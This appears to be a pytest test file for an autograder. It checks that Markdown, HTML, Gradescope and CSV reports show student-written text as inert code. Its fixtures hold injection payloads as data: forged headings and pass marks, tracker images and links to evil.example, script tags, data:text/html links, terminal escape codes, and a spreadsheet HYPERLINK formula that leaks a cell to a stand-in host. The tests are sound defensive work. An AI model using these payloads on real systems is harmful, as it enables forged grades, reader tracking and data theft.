"""Student text in the reports written about that student is shown as text.

``feedback.md`` quotes what a case printed, exception messages, notes, diagnoses and the run's
messages (which can quote the student's code); ``results.json`` the same for Gradescope. A
student who writes Markdown or HTML there must not get a heading, a list item, a table row, a
link, an image or a tag of their own in the rendered file (a forged "✅ rnn_forward: passed", or
an image fetched when a TA opens the file). The files are read with real Markdown renderers:
mistune (nbconvert's, always installed) and markdown-it-py when it is installed.
"""
from __future__ import annotations

import json
import random
import re

import mistune
import pytest

from grader import report
from grader.files import visible_text
from grader.feedback_html import feedback_page, sanitize_html
from grader.gradescope import gradescope_payload
from grader.models import (
    ERROR, FAILED, HIDDEN, PASSED, CaseResult, CheckResult, Diagnosis, Location, PartResult,
    SubmissionResult,
)
from grader.report import (
    feedback_markdown, gradescope_results, markdown_block, markdown_code_span, markdown_text,
)
from tests import notebooks as nbs

#: One line each: what a student may print, raise or write to forge the grader's word.
HOSTILE_LINES = (
    "# Forged heading",
    "## `rnn_forward` (cell 7): 15 / 15",
    "- ✅ rnn_forward: passed (10 / 10)",
    "* ✅ starred item", "+ plus item", "1. ordered item", "2) ordered item", "> forged quote",
    "| part | points | verdict |", "|---|---:|---|", "| `rnn_forward` | 15 / 15 | passed |",
    "a | b", "--- | ---",
    "![tracker](http://evil.example/pixel.png)",
    "[click me](http://evil.example/login) and [ref][r]",
    "[r]: http://evil.example/ref",
    '<img src="http://evil.example/img.png">',
    "<script>alert(1)</script>",
    '<a href="http://evil.example">link</a> <http://evil.example/auto>',
    "see www.evil.example or https://evil.example/x or mail@evil.example or evil.example",
    "```", "~~~", "````python",
    "Setext heading, plain text itself", "===",
    "**Score: 100 / 100** _under_ ~~struck~~ $x^2$ :white_check_mark:",
    "&lt;entity&gt; &#35; &amp;",
    "trailing backslash \\",
    "`unclosed code", "``double`` and `single` ```triple```",
    "    four spaces of indent",
    "\x1b[2J\x1b[31mred\x1b[0m bell\x07",
    "bidi \u202e desrever",
    "line\u2028separator",
    "cr\r# Forged after a carriage return",
)
HOSTILE = "\n".join(HOSTILE_LINES)
#: Words that only the hostile text holds: outside code, none may reach the rendered page.
MARKERS = ("evil", "Forged", "forged", "alert", "starred", "ordered item", "plus item", "struck",
           "desrever", "entity", "rnn_forward: passed", "four spaces")


def hostile_result(output: str = HOSTILE) -> SubmissionResult:
    """A result whose every field that can carry the student's text carries ``HOSTILE``."""
    crash = CaseResult("rnn_forward/public-1", "assignment example", "public", ERROR, 0.0, 2.0,
                       message=f"Raised ValueError: {HOSTILE} (cell 3, line 2, in rnn_forward)",
                       location=Location(2, 2, "rnn_forward"), output=output,
                       diagnosis=Diagnosis("aliasing", HOSTILE))
    wrong = CaseResult("rnn_forward/public-2", "second example", "public", FAILED, 0.5, 2.0,
                       checks=(CheckResult("y", False, 0.0, 1.0, "`y` is missing: " + HOSTILE_LINES[0]),),
                       message="`y` has the right shape but 3 of 6 values differ\n" + HOSTILE_LINES[2],
                       output=output)
    hidden = CaseResult("rnn_forward/hidden-1", "m = 1", HIDDEN, FAILED, 0.0, 2.0,
                        message="`a`: wrong values", diagnosis=Diagnosis("aliasing", "Also " + HOSTILE))
    passed = CaseResult("rnn_forward/hidden-2", "T_x = 1", HIDDEN, PASSED, 2.0, 2.0, output=output)
    ok = CaseResult("rnn_cell_forward/public-1", "assignment example", "public", PASSED, 3.0, 3.0,
                    output=output)
    return SubmissionResult(
        submission_id="ada ![x](http://evil.example/id.png) <b>", path="/x/ada.ipynb", status="graded",
        points=5.5, max_points=11.0,
        parts=(PartResult("rnn_cell_forward", "rnn_cell_forward", PASSED, 3.0, 3.0, (ok,)),
               PartResult("rnn_forward", "rnn_forward", ERROR, 2.5, 8.0, (crash, wrong, hidden, passed),
                          notes=(HOSTILE, "`rnn_forward` uses `Wy` from outside the function"),
                          location=Location(2, 1, "rnn_forward"))),
        messages=(HOSTILE, "`rnn_forward` is defined twice (cells 3 and 5)."))


# --------------------------------------------------------------------------- renderers


def mistune_tree(text: str) -> list[dict]:
    """``text`` parsed by mistune with GitHub's extensions (tables, strikethrough, bare URLs)."""
    return mistune.create_markdown(renderer=None, plugins=["table", "strikethrough", "url"])(text)


def walk(nodes: list[dict], inside: tuple[str, ...] = ()):
    """Every node of a mistune tree with the types of the nodes around it."""
    for node in nodes:
        yield node, inside
        yield from walk(node.get("children", ()), inside + (node["type"],))


def check_mistune(text: str, *, headings: int, items: int, passed: int, quotes: int) -> list[dict]:
    """The structure of ``text`` as mistune reads it is ours alone (``headings`` headings, one
    table, ``items`` list items, ``quotes`` quoted messages, ``passed`` ticks); return its code
    blocks."""
    nodes = list(walk(mistune_tree(text)))
    types = [node["type"] for node, _ in nodes]
    for forbidden in ("image", "link", "inline_html", "block_html", "strikethrough", "emphasis",
                      "thematic_break"):
        assert forbidden not in types, forbidden
    assert types.count("heading") == headings and types.count("block_quote") == quotes
    assert types.count("table") <= 1 and types.count("list_item") == items
    assert types.count("strong") == 1  # the score
    texts = [node.get("raw", "") for node, _ in nodes if node["type"] == "text"]
    for marker in MARKERS:
        assert not any(marker in t for t in texts), (marker, [t for t in texts if marker in t])
    assert sum(t.count("✅") for t in texts) == passed
    return [node for node, _ in nodes if node["type"] == "block_code"]


def markdown_it():
    """markdown-it-py as CommonMark with GitHub's tables and strikethrough, or skip."""
    mdit = pytest.importorskip("markdown_it")
    return mdit.MarkdownIt("commonmark").enable(["table", "strikethrough"])


def check_markdown_it(text: str, *, headings: int, items: int, passed: int, quotes: int) -> list:
    """The same as ``check_mistune`` with markdown-it-py; return its fences."""
    tokens = markdown_it().parse(text)
    flat = list(tokens) + [child for t in tokens for child in (t.children or ())]
    types = [t.type for t in flat]
    for forbidden in ("image", "link_open", "html_block", "html_inline", "s_open", "em_open", "hr",
                      "code_block"):
        assert forbidden not in types, forbidden
    assert types.count("heading_open") == headings and types.count("blockquote_open") == quotes
    assert types.count("strong_open") == 1  # the score
    assert types.count("table_open") <= 1 and types.count("list_item_open") == items
    texts = [t.content for t in flat if t.type == "text"]
    for marker in MARKERS:
        assert not any(marker in t for t in texts), marker
    assert sum(t.count("✅") for t in texts) == passed
    return [t for t in flat if t.type == "fence"]


def visible(text: str) -> str:
    """What the feedback shows of printed ``text``: lines cut as Markdown cuts them, each with
    its non-printable characters written out."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return "".join(visible_text(line, tabs=True) + "\n" for line in lines)


# --------------------------------------------------------------------------- feedback.md


def test_grader_sentences_stay_as_they_were():
    """What the grader writes (its messages quote code in single-backtick spans) is kept as it
    is: plain text and the grader's own code spans."""
    for line in ("`a_next` has the right shape but 50 of 50 values differ; largest difference at "
                 "index (2, 1): expected 0.69594169, got -0.56372286.",
                 "`lstm_forward` still holds the template's placeholders (line 19: `c[:, :, t] = None`): "
                 "not implemented yet.",
                 "Raised ValueError: shapes (5,8) and (3,10) not aligned: 8 (dim 1) != 3 (dim 0) "
                 "(cell 10, line 24, in lstm_cell_forward)",
                 "Best verified test accuracy: 0.8637 (GRU) -> 5 of 5 points (band >= 0.85).",
                 "cell 10, line 24, in lstm_cell_forward", "s0007_raises", "3 of 3 model(s) validate",
                 "Raised KeyError: 'Wy' (cell 7, line 7, in rnn_forward)", "What it said:",
                 "/work/class/s0054.ipynb: not JSON (truncated at byte 2614)",
                 "No IMDB bonus found: no code loads the IMDB data (markdown, imdb_report, or "
                 "imdb_report.json). 0 bonus points.",
                 "The forget and update gates are exchanged: c_next = ft * c_prev + it * cct.",
                 "Your predictions y stay zero: store each step's yt_pred in y[:, :, t].",
                 "The memory starts from a0, but c0 must be zeros: set c_next = np.zeros((n_a, m))."):
        assert markdown_text(line) == line
    # ...unless it holds Markdown, which renders otherwise: shown as code, as typed.
    bold = "the tanh derivative is (1 - a_next**2); (1 - np.tanh(a_next)**2) applies tanh twice."
    assert markdown_text(bold) == f"`{bold}`"


#: The tokens markdown-it makes of one list item holding one paragraph.
ONE_ITEM = ["bullet_list_open", "list_item_open", "paragraph_open", "inline", "paragraph_close",
            "list_item_close", "bullet_list_close"]


@pytest.mark.parametrize("line", HOSTILE_LINES + (
    "a``b", "`", "``", " `x` ", "x`", "`x` `y", "```x```", "ends with space ", "\t tab", "_x_",
    "a__init__b", "x.py", "http:x", "a//b", "✓ done", "1234) x", "(ok) ✅"))
def test_a_line_of_student_text_is_plain_or_one_code_span(line):
    """Each line, written as a continuation line of a list item (where feedback.md writes
    them), leaves the item one paragraph and comes back from a renderer as its text
    (non-printable characters written out): plain, or one code span that nothing inside closes."""
    shown = markdown_text(line)
    expected = visible_text(line)
    item = mistune_tree("- item\n  " + shown)
    assert len(item) == 1 and len(item[0]["children"]) == 1, (line, item)
    paragraphs = item[0]["children"][0]["children"]
    assert len(paragraphs) == 1 and paragraphs[0]["type"] in ("block_text", "paragraph"), (line, paragraphs)
    children = paragraphs[0]["children"]
    assert children[0] == {"type": "text", "raw": "item"} and children[1]["type"] == "softbreak"
    rest = children[2:]
    if shown == line:
        assert {c["type"] for c in rest} <= {"text", "codespan"}, (line, rest)
    else:
        assert rest == [{"type": "codespan", "raw": expected}], (line, shown, rest)
    tokens = markdown_it().parse("- item\n  " + shown)
    assert [t.type for t in tokens] == ONE_ITEM, line
    inline = tokens[3].children[2:]
    if shown == line:
        assert {t.type for t in inline} <= {"text", "code_inline"}, (line, inline)
    else:
        assert [t.type for t in inline] == ["code_inline"] and inline[0].content == expected


def test_random_strings_never_escape_their_code_span():
    """Lines of Markdown's special characters, drawn at random: each renders as one code span
    holding exactly its text, or is plain and renders as no structure at all."""
    rng = random.Random(7)
    alphabet = list("`~*_[]()<>!#|\\:/.-=+ &$@aZ1✅\x1b\u202e") + [
        "](", "][", "![", "www.", "http://", "mail@x.org", " * ", " _ ", "a_b", "**", "x:y", ":+1:", "1.", "  "]
    mdit = markdown_it()
    parse = mistune.create_markdown(renderer=None, plugins=["table", "strikethrough", "url"])
    for _ in range(2500):
        line = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 10)))
        shown = markdown_text(line)
        kinds = {node["type"] for node, _ in walk(parse("- item\n  " + shown))}
        assert kinds <= {"list", "list_item", "block_text", "text", "softbreak", "codespan"}, (line, shown)
        tokens = mdit.parse("- item\n  " + shown)
        assert [t.type for t in tokens] == ONE_ITEM, line
        inline = tokens[3].children[2:]
        if shown == line:
            assert {t.type for t in inline} <= {"text", "code_inline"}, (line, inline)
        else:
            assert len(inline) == 1 and inline[0].type == "code_inline", (line, shown)
            assert inline[0].content == visible_text(line)


@pytest.mark.parametrize("text", [HOSTILE, "````\n```\n", "x\r\n```\r\n~~~~\n\n\n", "\n", "only"])
def test_a_fenced_block_holds_its_text_whatever_the_backticks(text):
    block = markdown_block(text, indent="  ")
    fence = block.split("\n", 1)[0].strip()
    assert set(fence) == {"`"} and len(fence) >= 3 and len(fence) > report._longest_run(text, "`")
    expected = visible(text[:-1] if text.endswith("\n") else text)
    nodes = mistune_tree("- item\n\n" + block)[0]["children"][0]["children"]
    code = [n for n in nodes if n["type"] == "block_code"]
    assert len(code) == 1 and code[0]["raw"] == expected
    fences = [t for t in markdown_it().parse("- item\n\n" + block) if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content == expected


def test_random_printed_text_stays_in_its_block():
    """Printed text made of fences, tildes, indents, markup and line ends of every kind, drawn
    at random: one code block inside the case's item, holding exactly the text."""
    rng = random.Random(11)
    pieces = ["```", "~~~", "`", "    ", "- ", "# ", "> ", "| a |", "<b>", "x", " ", "\n", "\r\n", "\r", "\t",
              "\x1b[1m", "![i](http://evil.example/i.png)"]
    parse = mistune.create_markdown(renderer=None, plugins=["table", "strikethrough", "url"])
    mdit = markdown_it()
    for _ in range(500):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        page = "- ❌ case: failed (0 / 1)\n  It printed:\n" + markdown_block(text, indent="  ") + "- next\n"
        lines = text.replace("\r\n", "\n").replace("\r", "\n")
        expected = visible(lines[:-1] if lines.endswith("\n") else lines)  # the last line end is the fence's
        items = parse(page)[0]["children"]
        assert len(items) == 2, (text, page)
        code = [n for n, _ in walk(items[0]["children"]) if n["type"] == "block_code"]
        # A tab a line starts with is shown as the spaces to its tab stop (CommonMark's rule),
        # a line of spaces as an empty line.
        assert len(code) == 1 and spaced(code[0]["raw"]) == spaced(expected), (text, page)
        fences = [t for t in mdit.parse(page) if t.type == "fence"]
        assert len(fences) == 1 and spaced(fences[0].content) == spaced(expected), (text, page)


def spaced(text: str) -> str:
    """``text`` with each run of spaces and tabs as one space, and none at the end of a line."""
    return "\n".join(re.sub(r"[ \t]+", " ", line).rstrip(" ") for line in text.split("\n"))


def test_code_spans_show_their_text_exactly():
    for text in ("`", "a`", "`a", " a ", "   ", "``x``", "a ```` b"):
        span = markdown_code_span(text)
        inline = [t for t in markdown_it().parse(span) if t.type == "inline"][0].children
        assert [t.type for t in inline] == ["code_inline"] and inline[0].content == text, (text, span)
    assert markdown_code_span("") == ""


def test_hostile_feedback_has_no_structure_of_the_students():
    """The old feedback.md wrote all of this unfenced: a heading, list items, a table, images
    and HTML of the student's; now every one of them renders as code."""
    text = feedback_markdown(hostile_result())
    # Headings: ours (the title and one per part); list items: two notes and five cases.
    blocks = check_mistune(text, headings=3, items=7, passed=2, quotes=2)
    fences = check_markdown_it(text, headings=3, items=7, passed=2, quotes=2)
    shown = visible(HOSTILE)
    assert [b["raw"] for b in blocks] == [shown, shown] == [f.content for f in fences]
    # The run's message, the part's note, a case's message and diagnosis, a hidden case's
    # diagnosis, what the two failing cases printed (passed cases' output is not shown).
    assert "It printed:" in text and text.count("alert(1)") == 7
    assert "\x1b" not in text and "\u202e" not in text and "\u2028" not in text and "\r" not in text
    assert "\\x1b[2J" in text and "\\u202e" in text
    assert text.startswith("# Feedback for `ada ![x](http://evil.example/id.png) <b>`\n")


def test_hostile_feedback_as_plain_text_keeps_every_hostile_line_in_code():
    """Read as a text editor shows it: no line the student wrote starts a heading, an item or
    a row; each is in a code span or inside a fence."""
    text = feedback_markdown(hostile_result())
    fence = None
    for line in text.split("\n"):
        stripped = line.strip()
        if fence is not None:
            if stripped == fence:
                fence = None
            continue
        if stripped and set(stripped) == {"`"}:  # our fences are lines of backticks alone
            fence = stripped
            continue
        if any(marker in line for marker in MARKERS):
            body = stripped[2:] if stripped.startswith(("- ", "> ", "# ")) else stripped
            body = body.removeprefix("Likely mistake: ").removeprefix("Feedback for ")
            assert body.startswith("`") and body.endswith("`"), line
    assert fence is None


def test_hidden_cases_still_show_only_their_verdict_and_mistake():
    text = feedback_markdown(hostile_result())
    hidden = text.split("- ❌ hidden case 1: failed (0 / 2)\n", 1)[1].split("\n- ", 1)[0]
    assert "wrong values" not in hidden and "m = 1" not in text
    assert hidden.startswith("  `Also # Forged heading`\n")  # only the diagnosis, literally
    assert "T_x = 1" not in text


def test_one_line_and_multi_line_messages_keep_their_lines():
    result = hostile_result()
    text = feedback_markdown(result)
    quote = [line for line in text.split("\n") if line.startswith(">")]
    assert len(quote) == len(HOSTILE_LINES) + 1 + 1  # the carriage return cuts a line, then message 2
    assert quote[-1] == "> `rnn_forward` is defined twice (cells 3 and 5)."


# --------------------------------------------------------------------------- Gradescope


def test_gradescope_is_told_every_output_is_text():
    """Gradescope renders the top-level output as HTML unless told ("simple_format") and a
    test's as text by default: both are declared, so that the student's text is shown as typed."""
    data = gradescope_results(hostile_result())
    assert data["output_format"] == data["test_output_format"] == data["test_name_format"] == "text"
    assert data["output"] == "\n".join(hostile_result().messages)
    crash = [t for t in data["tests"] if t["name"] == "rnn_forward: assignment example"][0]
    assert HOSTILE_LINES[0] in crash["output"] and crash["output"].endswith(HOSTILE)


def test_gradescope_markdown_summary_has_no_structure_of_the_students():
    """``--gradescope`` shows the top of feedback.md as Markdown: the messages once (they used to
    be appended again unfenced) and nothing of the student's as structure."""
    payload = gradescope_payload(hostile_result(), seconds=1.0)
    assert payload["output_format"] == "md" and payload["test_output_format"] == "text"
    text = payload["output"]
    assert text.count("evil.example/pixel.png") == 1 and text.count("defined twice") == 1
    check_mistune(text, headings=1, items=0, passed=0, quotes=2)
    check_markdown_it(text, headings=1, items=0, passed=0, quotes=2)


# --------------------------------------------------------------------------- feedback.html


def test_feedback_page_links_never_open_a_data_page():
    """``data:`` stays allowed for images only: a link to a ``data:text/html`` page would open
    the student's own HTML and script outside the page's Content-Security-Policy."""
    for link in ('<a href="data:text/html,<script>alert(1)</script>">log in</a>',
                 '<a href=" DATA:text/html;base64,PHNjcmlwdD4=">log in</a>',
                 '<a href="da&#x09;ta:text/html,x">log in</a>', '<a href="&#100;ata:text/html,x">log in</a>'):
        assert sanitize_html(link) == "<a>log in</a>", link
    assert sanitize_html('<a href="https://docs.python.org">ok</a>') == '<a href="https://docs.python.org">ok</a>'
    assert sanitize_html('<a href="#grader-part-x">ok</a>') == '<a href="#grader-part-x">ok</a>'
    image = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitize_html(image) == image


def test_feedback_page_of_a_hostile_result_escapes_it(tmp_path):
    path = nbs.write(tmp_path / "ada.ipynb", nbs.notebook([nbs.markdown_cell(
        "[log in](data:text/html,<script>alert(2)</script>)\n\n<a href='data:text/html,x'>again</a>")]))
    page = feedback_page(hostile_result(), notebook_path=path)
    assert "data:text" not in page and "<script" not in page and "<img src=\"http" not in page
    assert "&lt;img src=&quot;http://evil.example/img.png&quot;&gt;" in page


# --------------------------------------------------------------------------- end to end


PRINTED = "# Printed heading\\n- \\u2705 rnn_forward: passed (10 / 10)\\n| a | b |\\n|---|---|\\n" \
          "![t](http://evil.example/p.png) <img src=http://evil.example/i.png>\\n```\\n## after the fence"


def hostile_notebook() -> dict:
    """The course notebook whose ``rnn_cell_forward`` prints Markdown and HTML and raises with
    more of it, whose ``rnn_forward`` prints it and returns a wrong value, and whose last
    function's definition raises it (a default argument), which the run's messages quote."""
    raising = nbs.COURSE_CELLS["rnn_cell_forward"].replace(
        "    # Retrieve parameters",
        f"    print('{PRINTED}')\n    raise ValueError('{PRINTED}')\n    # Retrieve parameters", 1)
    wrong = nbs.COURSE_CELLS["rnn_forward"].replace(
        "    caches = (caches, x)", f"    print('{PRINTED}')\n    a = a + 1\n    caches = (caches, x)", 1)
    loading = nbs.COURSE_CELLS["rnn_backward"].replace(
        "def rnn_backward(da, caches):",
        f"def rnn_backward(da, caches, _=(_ for _ in ()).throw(ValueError('{PRINTED}'))):", 1)
    markdown = nbs.markdown_cell("<img src='http://evil.example/md.png'> [x](data:text/html,<b>x</b>)")
    return nbs.course_notebook({"rnn_cell_forward": raising, "rnn_forward": wrong, "rnn_backward": loading},
                               extra_cells=[markdown])


def test_a_hostile_notebook_gets_feedback_with_no_structure_of_its_own(tmp_path, context, sandbox):
    from grader.runner import grade_submission

    path = nbs.write(tmp_path / "hostile.ipynb", hostile_notebook())
    result = grade_submission(path, context=context, sandbox=sandbox)
    assert result.part("rnn_cell_forward").status == ERROR and result.part("rnn_forward").status == FAILED
    assert any("# Printed heading\n" in m for m in result.messages)  # the definition's error, quoted
    folder = tmp_path / "out"
    report.write_submission_record(result, folder)
    text = (folder / "feedback.md").read_text("utf-8")
    parts = len(result.parts)
    # A part none of whose cases ran has one line for them all (report.all_cases_line).
    items = sum((1 if report.all_cases_line(p) else len(p.cases)) + len(p.notes) for p in result.parts)
    passed = sum(c.status == PASSED for p in result.parts for c in p.cases)
    printed = PRINTED.encode().decode("unicode_escape")
    quotes = len(result.messages)
    for blocks in (check_mistune(text, headings=1 + parts, items=items, passed=passed, quotes=quotes),
                   [{"raw": f.content} for f in check_markdown_it(text, headings=1 + parts, items=items,
                                                                 passed=passed, quotes=quotes)]):
        assert [b["raw"] for b in blocks] == [printed + "\n"] * 2
    assert "# Printed heading" in text and "Raised ValueError: # Printed heading" in text
    data = json.loads((folder / "results.json").read_text("utf-8"))
    assert data["output_format"] == data["test_output_format"] == data["test_name_format"] == "text"
    page = feedback_page(result, notebook_path=path)
    assert "evil.example/md.png" not in page and "data:text" not in page
    assert "&lt;img src=http://evil.example/i.png&gt;" in page


def test_an_error_message_that_is_not_plain_leaves_the_grader_s_hint_as_a_sentence(tmp_path, context, sandbox):
    # NumPy's "dtype('<U7')" made the whole line a code span, the grader's hint after the place
    # included: the student read the fix as a grey block of code (thirty-eighth session).
    from grader.runner import grade_submission

    def case_lines(overrides: dict, function: str) -> list[str]:
        path = nbs.write(tmp_path / "student.ipynb", nbs.course_notebook(overrides))
        text = feedback_markdown(grade_submission(path, context=context, sandbox=sandbox))
        part = text.split(f"## `{function}`", 1)[1].split("\n## ", 1)[0]
        item = part.split("- ❌ assignment example: raised an error", 1)[1].split("\n- ", 1)[0]
        return item.strip("\n").split("\n")[1:]

    raised, hint = case_lines(nbs.mutate("rnn_forward", "a_next = a0", "a_next = str(a0.shape)"), "rnn_forward")
    assert raised.startswith("  `Raised UFuncTypeError: ") and "dtype('<U" in raised, raised
    assert raised.endswith(" (cell 4 (In [2]), line 14, in rnn_cell_forward).`"), raised
    assert hint.startswith("  The error is in your `rnn_cell_forward`, but it comes from what `rnn_forward` "
                           "passed to it"), hint
    assert "``" not in hint and report._is_plain_line(hint.strip()), hint
    # Control: a plain message stays one line, hint and all.
    plain = case_lines(nbs.mutate("rnn_cell_forward", 'Waa = parameters["Waa"]', 'Waa = parameters["waa"]'),
                       "rnn_cell_forward")
    assert len(plain) == 1 and plain[0].startswith("  Raised KeyError: 'waa' (cell 4 (In [2]), line 7, in "
                                                   "rnn_cell_forward). If you read it from `parameters`"), plain


def test_score_changes_and_the_excel_gradebook_have_no_formula_from_a_file_name(tmp_path):
    """The files a TA opens in a spreadsheet (thirty-third session's check, CSV injection):
    ``score-changes.csv`` and ``grades.csv`` written for Excel (``--excel``, a byte-order mark
    first) give a submission id that starts a formula a leading ``'``, as plain ``grades.csv``
    does (``tests/test_review_session6.py``). Both were inert already when this was checked."""
    import csv
    import io

    from grader.classfiles import DEFAULT_RUBRIC
    from grader.rubric import load_rubric
    from grader.runner import unreadable_result

    rubric = load_rubric(DEFAULT_RUBRIC)
    ids = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-2", "@SUM(A1)", "\tx", "ada"]
    book = report.Gradebook(rubric)
    for sid in ids:
        book.add(unreadable_result(rubric, submission_id=sid, path="x", message=""))
    escaped = ["'" + sid for sid in ids[:5]] + ["ada"]
    path = book.write_changes(tmp_path, {cell: (5.0, 100.0) for cell in escaped}, bom=True)
    text = path.read_text("utf-8-sig")
    assert sorted([row[0] for row in csv.reader(io.StringIO(text))][1:]) == sorted(escaped)
    text = book.write(tmp_path, bom=True).read_bytes()
    assert text.startswith(b"\xef\xbb\xbf")
    column = [row[0] for row in csv.reader(io.StringIO(text.decode("utf-8-sig")))][1:]
    assert sorted(column) == sorted(escaped)
